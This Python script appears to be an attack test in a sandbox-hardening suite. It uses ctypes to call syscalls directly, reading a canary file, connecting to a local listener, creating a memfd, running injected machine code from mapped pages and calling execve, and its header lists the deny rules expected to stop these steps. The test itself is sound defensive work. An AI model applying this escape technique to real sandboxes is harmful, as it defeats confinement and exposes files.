# Attack: system calls by number and machine code of its own, past everything that Python could check.
# Source: CVE-2025-68668 and its like: a sandbox inside the interpreter ends where ctypes begins.
# Stopped by: static (ctypes), kernel (mount namespace, seccomp, no memory that is both written and executed).
# Must not happen: the canary's content is printed, the listener hears something, own machine code runs.
# Arguments: canary port
# Sentinel: stdout SECRET, stdout native-42, tcp
# Default policy: static:import.denied:ctypes
# Jail alone: kernel:syscall.denied:socket* kernel:syscall.denied:mmap kernel:syscall.denied:memfd_create
#   kernel:syscall.denied:execve
import ctypes
import mmap
import sys

OPENAT, READ, SOCKET, CONNECT, EXECVE, MEMFD_CREATE = 257, 0, 41, 42, 59, 319  # x86-64
CANARY = sys.argv[1].encode()
PORT = int(sys.argv[2])

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

descriptor = libc.syscall(OPENAT, -100, CANARY, 0)
buffer = ctypes.create_string_buffer(4096)
size = libc.syscall(READ, descriptor, buffer, 4096)
print("file", buffer.raw[:size] if size > 0 else ctypes.get_errno())

address = b"\x02\x00" + PORT.to_bytes(2, "big") + b"\x7f\x00\x00\x01" + bytes(8)
connection = libc.syscall(SOCKET, 2, 1, 0)
print("connect", libc.syscall(CONNECT, connection, address, 16))
print("memfd", libc.syscall(MEMFD_CREATE, b"code", 0))

# mov eax, 42; ret
CODE = b"\xb8\x2a\x00\x00\x00\xc3"


def run(protection):
    """Run CODE from a page that was first mapped with this protection."""
    where = libc.mmap(None, 4096, protection, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
    if where == ctypes.c_void_p(-1).value or not where:
        return f"no page, errno {ctypes.get_errno()}"
    if not protection & mmap.PROT_WRITE:
        return "a page that cannot be written"
    ctypes.memmove(where, CODE, len(CODE))
    if libc.mprotect(ctypes.c_void_p(where), 4096, mmap.PROT_READ | mmap.PROT_EXEC) != 0:
        return f"no execution, errno {ctypes.get_errno()}"
    return "native-" + str(ctypes.CFUNCTYPE(ctypes.c_int)(where)())


print("rwx", run(mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC))
print("rw then rx", run(mmap.PROT_READ | mmap.PROT_WRITE))
sys.stdout.flush()
libc.syscall(EXECVE, sys.executable.encode(), None, None)
print("still the same program")
